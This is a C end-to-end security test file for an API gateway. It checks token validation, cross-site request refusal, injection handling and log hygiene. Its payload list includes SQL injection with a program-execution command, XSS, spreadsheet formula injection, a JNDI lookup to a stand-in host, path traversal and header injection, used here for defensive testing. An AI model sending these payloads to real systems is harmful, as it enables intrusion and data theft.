/* SPDX-License-Identifier: Apache-2.0 */
/* Hostile input at the front door: tokens that are none, requests a browser would send for somebody else, and text that
 * wants to be a statement, a script or a formula. */
#include <poll.h>
#include <stdio.h>
#include <unistd.h>

#include "base/strbuf.h"
#include "e2e/contract.h"
#include "e2e/contract_calls.h"
#include "e2e/log_scan.h"
#include "support/cmocka_all.h"

#define NOBODY "01900000-0000-7000-8000-000000000000"

struct world {
    struct contract *contract;
    struct log_scan logs;
    int keys;
};

static int
set_up(void **state)
{
    struct world *world = calloc(1, sizeof *world);

    world->contract = contract_new();
    /* One account asks every operation with every bad text, within a minute. */
    test_system_set(world->contract->system, "gateway", "LIANGXIN_RATE_ACCOUNT", "0");
    contract_start_logged(world->contract, &world->logs);
    contract_set(world->contract, "last", NOBODY, 0); /* of letters there is none */
    *state = world;
    return 0;
}

static int
tear_down(void **state)
{
    struct world *world = *state;

    log_scan_free(&world->logs);
    contract_free(world->contract);
    free(world);
    return 0;
}

static void
url_of(const struct world *world, const char *path, char ret_url[1024])
{
    snprintf(ret_url, 1024, "%s%s", world->contract->api.base, path);
}

static long
status_of(const struct world *world, struct test_request request, const char *path)
{
    char url[1024];
    struct test_reply reply;
    long status;

    url_of(world, path, url);
    request.url = url;
    request.verb = request.verb ? request.verb : "GET";
    reply = test_http(&request);
    status = reply.status;
    assert_string_equal(test_reply_header(&reply, "Access-Control-Allow-Origin"), "");
    assert_string_equal(test_reply_header(&reply, "Set-Cookie"), "");
    test_reply_done(&reply);
    return status;
}

static long
status_by(const struct world *world, const char *token)
{
    return status_of(world, (struct test_request){ .token = token }, "/session");
}

static void
a_token_that_is_none_is_refused(void **state)
{
    struct world *world = *state;
    const char *good = world->contract->api.city;
    size_t size = strlen(good);
    char token[600];

    assert_int_equal(status_by(world, good), 200);
    for (size_t i = 0; i < size; i++) { /* one character off, wherever */
        snprintf(token, sizeof token, "%s", good);
        token[i] = token[i] == 'a' ? 'b' : 'a';
        assert_int_equal(status_by(world, token), 401);
    }
    for (size_t kept = 0; kept < size; kept += 7) {
        snprintf(token, sizeof token, "%.*s", (int)kept, good);
        assert_int_equal(status_by(world, token), 401);
    }
    snprintf(token, sizeof token, "%s%s", good, good);
    assert_int_equal(status_by(world, token), 401);
    snprintf(token, sizeof token, "%s ", good);
    assert_int_equal(status_by(world, token), 200); /* blanks at the end of a field are no part of it */
    assert_int_equal(status_by(world, good), 200);
}

/* Signed by other keys, made for another database: organizations does not know the hash. */
static void
a_token_of_another_system_is_refused(void **state)
{
    struct world *world = *state;
    struct test_pg *pg = test_pg_open();
    struct test_system *system = test_system_new(pg);
    char token[256];

    snprintf(token, sizeof token, "%s", test_system_bootstrap(system));
    assert_int_equal(status_by(world, token), 401);
    test_system_free(system);
    test_pg_close(pg);
}

static void
a_token_belongs_into_its_header(void **state)
{
    struct world *world = *state;
    const char *good = world->contract->api.city;
    char line[512];
    char path[512];

    snprintf(path, sizeof path, "/session?access_token=%s", good);
    assert_int_equal(status_of(world, (struct test_request){ 0 }, path), 401);
    snprintf(path, sizeof path, "/session?token=%s", good);
    assert_int_equal(status_of(world, (struct test_request){ 0 }, path), 401);
    snprintf(line, sizeof line, "Cookie: sid=%s; token=%s", good, good);
    assert_int_equal(status_of(world, (struct test_request){ .header = line }, "/session"), 401);
    snprintf(line, sizeof line, "Authorization: Basic %s", good);
    assert_int_equal(status_of(world, (struct test_request){ .header = line }, "/session"), 401);
    snprintf(line, sizeof line, "Authorization: Bearer");
    assert_int_equal(status_of(world, (struct test_request){ .header = line }, "/session"), 401);
}

static long
account_as(const struct world *world, const char *type, const char *header, const char *token, const char *key)
{
    static const char body[] = "{\"name\":\"stranger\",\"role\":\"member\",\"organization_id\":\"" NOBODY "\"}";

    return status_of(world,
                     (struct test_request){
                         .verb = "POST", .token = token, .key = key, .type = type, .header = header, .body = body },
                     "/accounts");
}

/* What a form or a script of another site can make a browser send. */
static void
another_site_changes_nothing(void **state)
{
    static const char *const types[] = { "application/x-www-form-urlencoded", "text/plain", "multipart/form-data",
                                         "application/jsonp", "text/json" };
    struct world *world = *state;
    const char *good = world->contract->api.city;

    for (size_t i = 0; i < sizeof types / sizeof *types; i++) {
        assert_int_equal(account_as(world, types[i], "Origin: https://elsewhere.example", good, "csrf-1"), 415);
        assert_int_equal(account_as(world, types[i], "Origin: https://elsewhere.example", NULL, "csrf-2"), 401);
    }
    assert_int_equal(account_as(world, NULL, "Cookie: sid=1", NULL, "csrf-3"), 401);
    assert_int_equal(account_as(world, NULL, NULL, good, NULL), 400);
    assert_int_equal(
        status_of(world, (struct test_request){ .verb = "OPTIONS", .header = "Access-Control-Request-Method: POST" },
                  "/accounts"),
        405);
    assert_int_equal(
        test_pg_number(world->contract->pg, "organizations", "select count(*) from account where name = 'stranger'"),
        0);
}

static const char *const payloads[] = {
    "'; DROP TABLE letter; --",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(10); --",
    "$1); COPY letter TO PROGRAM 'id'; --",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://elsewhere.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "${jndi:ldap://elsewhere.example/a}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie:a=b",
    "%s%s%s%n%p",
    "{{7*7}}",
    ("\xe2\x80\xae"
     "gpj.exe"),
    "\xef\xbc\x87 OR 1=1",
};

/* The body with `field` set to the payload. */
static char *
poisoned(const struct contract *contract, const char *body, const char *field, const char *payload)
{
    char *good = contract_expand(contract, body ? body : "{}");
    json_t *object = json_loads(good, 0, NULL);
    char *text;

    free(good);
    assert_non_null(object);
    json_object_set_new(object, field, json_string(payload));
    text = json_dumps(object, 0);
    json_decref(object);
    return text;
}

static const json_t *
fields_of(const struct contract *contract, const json_t *operation)
{
    json_t *path = json_object_get(json_object_get(contract->document, "paths"), contract_word(operation, "path"));
    json_t *body = json_object_get(json_object_get(path, "post"), "requestBody");
    json_t *json = json_object_get(json_object_get(body, "content"), "application/json");

    return json_object_get(json_object_get(json, "schema"), "properties");
}

static void
inject(struct world *world, const json_t *operation, const char *body, const char *field, const char *payload)
{
    char url[512];
    char key[64];
    char *text = poisoned(world->contract, body, field, payload);
    struct test_reply reply;

    contract_url(world->contract, operation, NOBODY, NULL, url);
    snprintf(key, sizeof key, "inject-%d", ++world->keys);
    reply = test_http(&(struct test_request){ .verb = contract_word(operation, "verb"),
                                              .url = url,
                                              .token = world->contract->api.city,
                                              .key = key,
                                              .version = contract_says(operation, "if_match") ? 1 : 0,
                                              .body = text });
    if (reply.status == 0 || reply.status >= 500)
        fail_msg("%s, %s = %s: %ld", contract_word(operation, "id"), field, payload, reply.status);
    assert_true(strncmp(test_reply_header(&reply, "Content-Type"), "application/", 12) == 0);
    test_reply_done(&reply);
    free(text);
}

static const char *
body_of(const char *operation)
{
    for (size_t i = 0; i < contract_calls_count; i++)
        if (strcmp(contract_calls[i].operation, operation) == 0)
            return contract_calls[i].body;
    return NULL;
}

static void
no_field_makes_the_system_stumble(void **state)
{
    struct world *world = *state;
    size_t i;
    json_t *operation;

    json_array_foreach(world->contract->operations, i, operation)
    {
        const char *field;
        json_t *schema;

        json_object_foreach((json_t *)(uintptr_t)fields_of(world->contract, operation), field,
                            schema) for (size_t p = 0; p < sizeof payloads / sizeof *payloads; p++)
            inject(world, operation, body_of(contract_word(operation, "id")), field, payloads[p]);
    }
}

/* The percent-encoded payload. */
static void
encode(const char *text, char ret_text[512])
{
    size_t used = 0;

    for (; *text && used < 500; text++)
        used += (size_t)snprintf(ret_text + used, 512 - used, "%%%02X", (unsigned char)*text);
    ret_text[used] = '\0';
}

static void
no_address_makes_the_system_stumble(void **state)
{
    struct world *world = *state;
    size_t i;
    json_t *operation;
    const struct test_request as_city = { .token = world->contract->api.city };

    json_array_foreach(world->contract->operations, i, operation)
    {
        json_t *path =
            json_object_get(json_object_get(world->contract->document, "paths"), contract_word(operation, "path"));
        size_t n;
        json_t *parameter;

        json_array_foreach(json_object_get(json_object_get(path, "get"), "parameters"), n,
                           parameter) for (size_t p = 0; p < sizeof payloads / sizeof *payloads; p++)
        {
            const char *in = json_string_value(json_object_get(parameter, "in"));
            char text[512];
            char query[700];
            char url[512];
            long status;

            encode(payloads[p], text);
            snprintf(query, sizeof query, "?%s=%s", json_string_value(json_object_get(parameter, "name")), text);
            contract_url(world->contract, operation, strcmp(in, "path") == 0 ? text : NOBODY,
                         strcmp(in, "query") == 0 ? query : NULL, url);
            status = status_of(world, as_city, url + strlen(world->contract->api.base));
            if (status < 200 || status >= 500)
                fail_msg("%s: %ld", url, status);
        }
    }
}

/* What is text stays the text it was, in every list and file it comes back in. */
static void
text_is_kept_as_it_is(void **state)
{
    struct world *world = *state;
    struct api *api = &world->contract->api;
    char id[64];
    char letter[64];
    char path[128];

    api_member(api, world->contract->towns.east_branch, id);
    for (size_t p = 0; p < sizeof payloads / sizeof *payloads; p++) {
        char *body =
            poisoned(world->contract, "{\"member_id\":\"$member\",\"to_committee_id\":\"$west\",\"reason\":\"other\"}",
                     "note", payloads[p]);
        struct test_reply reply = { 0 };

        for (int i = 0; i < 500 && reply.status != 201; i++) { /* the member's news takes its time */
            test_reply_done(&reply);
            reply = api_post(api, world->contract->towns.east_secretary, "/transfers", 0, body);
            if (reply.status == 400)
                break;
            poll(NULL, 0, reply.status == 201 ? 0 : 20);
        }
        free(body);
        if (reply.status == 400) { /* characters that change the direction of writing are no text of ours */
            test_reply_done(&reply);
            continue;
        }
        snprintf(letter, sizeof letter, "%s", test_reply_text(&reply, "id"));
        test_reply_done(&reply);
        snprintf(path, sizeof path, "/transfers/%s/timeline", letter);
        reply = api_get(api, world->contract->towns.east_secretary, path);
        assert_string_equal(
            json_string_value(json_object_get(json_array_get(json_object_get(reply.json, "items"), 0), "note")),
            payloads[p]);
        test_reply_done(&reply);
        api_step(api, world->contract->towns.east_secretary, letter, "cancel", 1, "{\"note\":\"x\"}", "cancelled");
    }
}

static void
nothing_of_it_reached_the_database_as_a_statement(void **state)
{
    static const char *const errors[] = { "syntax error", "unterminated quoted", "invalid byte sequence", NULL };
    struct world *world = *state;
    const char *const tokens[] = { world->contract->api.city, world->contract->towns.east_secretary, NULL };
    const char *const people[] = { "莫思影", "320698200203126949", "17342840920", NULL };

    log_scan_lacks(&world->logs, "error", errors);
    log_scan_lacks(&world->logs, "token", tokens);
    log_scan_lacks(&world->logs, "planted text", people);
    log_scan_lacks(&world->logs, "payload", (const char *const[]){ "DROP TABLE", "onerror", "HYPERLINK", NULL });
}

/* The same text in a ledger's cells: a row is refused, or its name stays what it was. */
static void
ledgers_keep_text_as_it_is(void **state)
{
    struct world *world = *state;
    struct api *api = &world->contract->api;
    struct strbuf csv;
    struct test_reply reply;
    char id[64];
    char path[128];
    long version;

    strbuf_init(&csv, 65536);
    strbuf_text(
        &csv, "组织编码,组织名称,组织类型,上级组织编码,组建方式,区划代码,所在园区,成立日期,届满日期,书记姓名,联系电话,"
              "预备党员审批权\n");
    for (size_t p = 0; p < sizeof payloads / sizeof *payloads; p++) {
        strbuf_printf(&csv, "X%zu,\"", p);
        for (const char *c = payloads[p]; *c; c++)
            strbuf_text(&csv, *c == '"' ? "\"\"" : (char[]){ *c, '\0' });
        strbuf_text(&csv, "\",党支部,E1,单独组建,320697001,,2016-05-18,2027-05-18,,,\n");
    }
    api_upload(api, "organizations", csv.data, csv.size, id);
    strbuf_done(&csv);
    reply = api_await_import(api, id, "validated");
    version = test_reply_number(&reply, "version");
    test_reply_done(&reply);
    snprintf(path, sizeof path, "/imports/%s/commit", id);
    reply = api_post(api, api->city, path, version, "{\"good_rows_only\":true}");
    assert_int_equal(reply.status, 202);
    test_reply_done(&reply);
    reply = api_await_import(api, id, "succeeded");
    assert_true(test_reply_number(&reply, "created") >= 10);
    test_reply_done(&reply);
    for (size_t p = 0; p < sizeof payloads / sizeof *payloads; p++) {
        json_t *item;

        snprintf(path, sizeof path, "/organizations?code=X%zu", p);
        reply = api_get(api, api->city, path);
        assert_int_equal(reply.status, 200);
        item = json_array_get(json_object_get(reply.json, "items"), 0);
        if (item)
            assert_string_equal(json_string_value(json_object_get(item, "name")), payloads[p]);
        test_reply_done(&reply);
    }
}

/* A service whose clock is an hour ahead
 sees every actor token as one of an hour ago. */
static void
an_actor_token_of_an_hour_ago_is_refused(void **state)
{
    struct world *world = *state;
    const struct test_request as_city = { .token = world->contract->api.city };

    assert_int_equal(status_of(world, as_city, "/transfers"), 200);
    assert_int_equal(test_system_stop(world->contract->system, "dues"), 0);
    test_pg_run(world->contract->pg, "dues", "update system_kind set test = true");
    test_system_set(world->contract->system, "dues", "LIANGXIN_CLOCK", "3600");
    test_system_start(world->contract->system, "dues");
    for (int i = 0; i < 500 && status_of(world, as_city, "/dues/members/" NOBODY "/base") == 503; i++)
        poll(NULL, 0, 20);
    assert_int_equal(status_of(world, as_city, "/dues/members/" NOBODY "/base"), 401);
    assert_int_equal(status_of(world, as_city, "/transfers"), 200);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_token_that_is_none_is_refused),
        cmocka_unit_test(a_token_of_another_system_is_refused),
        cmocka_unit_test(a_token_belongs_into_its_header),
        cmocka_unit_test(another_site_changes_nothing),
        cmocka_unit_test(text_is_kept_as_it_is),
        cmocka_unit_test(ledgers_keep_text_as_it_is),
        cmocka_unit_test(no_field_makes_the_system_stumble),
        cmocka_unit_test(no_address_makes_the_system_stumble),
        cmocka_unit_test(an_actor_token_of_an_hour_ago_is_refused),
        cmocka_unit_test(nothing_of_it_reached_the_database_as_a_statement),
    };

    return cmocka_run_group_tests(tests, set_up, tear_down);
}
